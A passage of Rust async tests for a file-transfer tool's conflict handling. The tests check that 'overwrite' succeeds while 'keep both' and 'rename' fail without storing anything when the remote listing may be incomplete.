    assert_eq!(o.status.code(), Some(1), "{e}");
    assert!(
        e.contains("may be incomplete") && e.contains("only --on-conflict overwrite"),
        "{e}"
    );
    assert_eq!(run.mock.stored(), before);

    let o = filedeck(&run, home.path(), &put("overwrite")).await;
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(run.mock.stored().len(), 101);
}

/// "Keep both" where the listing may be incomplete: the numbered name it would take may be
/// a file the listing left out, so none is chosen (an outsider's attack replaced
/// `raw/f005 (1)` this way). The browser's dialog says so; the answer fails the file with
/// the reason; nothing is stored.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keep_both_needs_a_complete_listing() {
    let run = full_page_of_many().await;
    let before = run.mock.stored();
    let dir = tempfile::tempdir().unwrap();
    let local = write_file(dir.path(), "f005.txt", b"new bytes");

    let (commands, mut events) = engine(&run, ConflictPolicy::Ask);
    put(&commands, &local, "many/");
    let (batch, items) = asked(&mut events).await;
    assert_eq!(items[0].existing, "ws_other:many/f005.txt");
    let note = items[0].note.as_deref().unwrap_or_default();
    assert!(note.contains("may be incomplete"), "{note}");
    commands
        .send(Do::Resolve {
            batch,
            choices: vec![Choice::KeepBoth],
        })
        .unwrap();
    match ended(&mut events).await {
        TransferState::Failed(why) => {
            assert!(
                why.contains("no numbered name is known to be free"),
                "{why}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(run.mock.stored(), before);

    let (commands, mut events) = engine(&run, ConflictPolicy::Fixed(OnConflict::Rename));
    put(&commands, &local, "many/");
    assert!(matches!(ended(&mut events).await, TransferState::Failed(_)));
    assert_eq!(run.mock.stored(), before);
}
